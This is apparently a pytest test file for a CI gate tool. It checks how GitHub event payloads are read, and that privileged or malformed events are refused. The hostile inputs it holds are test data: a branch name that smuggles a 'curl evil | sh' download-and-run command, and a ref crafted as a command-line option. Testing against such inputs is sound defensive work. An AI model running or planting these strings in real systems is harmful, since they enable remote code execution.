"""What an event asks for, and what none may ask for."""

from __future__ import annotations

import json

import pytest

from aigate.documents.github_event import Asked, read_event
from aigate.errors import IncompleteError, UsageError

ONE, TWO, ZERO = "1" * 40, "2" * 40, "0" * 40
REPOSITORY = {"default_branch": "main"}

ASKED = {
    "a pull request": (
        "pull_request",
        {"pull_request": {"base": {"ref": "release/1", "sha": TWO}}, "repository": REPOSITORY},
        Asked(
            base="refs/remotes/origin/release/1",
            head=ONE,
            branch="release/1",
            default_branch="main",
        ),
    ),
    "a pull request with its opener": (
        "pull_request",
        {
            "pull_request": {"base": {"ref": "main"}, "user": {"id": 7, "login": "sam"}},
            "repository": REPOSITORY,
        },
        Asked(
            base="refs/remotes/origin/main",
            head=ONE,
            branch="main",
            default_branch="main",
            opener="github:7",
        ),
    ),
    "a pull request whose base was edited": (
        "pull_request",
        {
            "action": "edited",
            "changes": {"base": {"ref": {"from": "main"}}},
            "pull_request": {"base": {"ref": "next", "sha": TWO}},
            "repository": REPOSITORY,
        },
        Asked(base="refs/remotes/origin/next", head=ONE, branch="next", default_branch="main"),
    ),
    "a merge group": (
        "merge_group",
        {"merge_group": {"base_sha": TWO, "base_ref": "refs/heads/main"}, "repository": REPOSITORY},
        Asked(base=TWO, head=ONE, branch="main", default_branch="main"),
    ),
    "a push": (
        "push",
        {"before": TWO, "after": ONE, "ref": "refs/heads/main", "repository": REPOSITORY},
        Asked(base=TWO, head=ONE, branch="main", default_branch="main"),
    ),
    "a push of a new branch": (
        "push",
        {"before": ZERO, "after": ONE, "ref": "refs/heads/topic", "repository": REPOSITORY},
        Asked(base="refs/remotes/origin/main", head=ONE, branch="topic", default_branch="main"),
    ),
    "the first push": (
        "push",
        {"before": ZERO, "after": ONE, "ref": "refs/heads/main", "repository": REPOSITORY},
        Asked(base="", head=ONE, branch="main", default_branch="main"),
    ),
    "a tag": (
        "push",
        {"before": ZERO, "after": ONE, "ref": "refs/tags/v1", "repository": REPOSITORY},
        Asked(base="refs/remotes/origin/main", head=ONE, default_branch="main"),
    ),
    "started by hand on the default branch": (
        "workflow_dispatch",
        {"ref": "refs/heads/main", "repository": REPOSITORY},
        Asked(base="", head=ONE, default_branch="main"),
    ),
    "started by hand on another branch": (
        "workflow_dispatch",
        {"ref": "refs/heads/topic", "repository": REPOSITORY},
        Asked(base="refs/remotes/origin/main", head=ONE, default_branch="main"),
    ),
    "a schedule": (
        "schedule",
        {"schedule": "0 3 * * *", "repository": REPOSITORY},
        Asked(base="", head=ONE, default_branch="main"),
    ),
}


@pytest.mark.parametrize("name", ASKED)
def test_an_event_says_what_is_judged(name):
    event, payload, asked = ASKED[name]

    assert read_event(event, json.dumps(payload).encode(), commit=ONE) == asked


@pytest.mark.parametrize("event", ["pull_request_target", "workflow_run", "issue_comment"])
def test_c_062_an_event_with_rights_of_its_own_is_refused(event):
    with pytest.raises(UsageError) as caught:
        read_event(event, b"{}", commit=ONE)

    assert caught.value.code == "event-privileged"


def test_an_event_that_says_nothing_is_refused():
    with pytest.raises(UsageError) as caught:
        read_event("fork", b"{}", commit=ONE)

    assert caught.value.code == "event-unknown"


UNCLEAR = {
    "empty": ("pull_request", b"", ONE),
    "no JSON": ("pull_request", b"{", ONE),
    "not UTF-8": ("pull_request", b'"\xff"', ONE),
    "deep": ("pull_request", b"[" * 200_000, ONE),
    "a list": ("pull_request", b"[]", ONE),
    "null": ("merge_group", b"null", ONE),
    "no base": ("pull_request", b'{"pull_request": {}}', ONE),
    "an opener that is no number": (
        "pull_request",
        b'{"pull_request": {"base": {"ref": "main"}, "user": {"id": "7"}}}',
        ONE,
    ),
    "a base that is no text": ("pull_request", b'{"pull_request": {"base": {"ref": 1}}}', ONE),
    "a base that is an option": (
        "pull_request",
        b'{"pull_request": {"base": {"ref": "--output=x"}}}',
        ONE,
    ),
    "an empty base": ("pull_request", b'{"pull_request": {"base": {"ref": ""}}}', ONE),
    "a base that is no commit": (
        "merge_group",
        b'{"merge_group": {"base_sha": "main", "base_ref": "refs/heads/main"}}',
        ONE,
    ),
    "no commit": ("schedule", b"{}", ""),
    "a commit that is a name": ("schedule", b"{}", "main"),
    "a push from nowhere": ("push", b'{"ref": "refs/heads/main"}', ONE),
}


@pytest.mark.parametrize("name", UNCLEAR, ids=[f"C-069-{name}" for name in UNCLEAR])
def test_what_is_unclear_is_no_empty_change(name):
    event, payload, commit = UNCLEAR[name]

    with pytest.raises(IncompleteError) as caught:
        read_event(event, payload, commit=commit)

    assert caught.value.code == "event-unclear"


def test_c_063_names_from_outside_stay_what_they_are():
    hostile = 'x";curl${IFS}evil|sh;"'
    payload = {"pull_request": {"base": {"ref": hostile}}}

    assert read_event("pull_request", json.dumps(payload).encode(), commit=ONE).branch == hostile
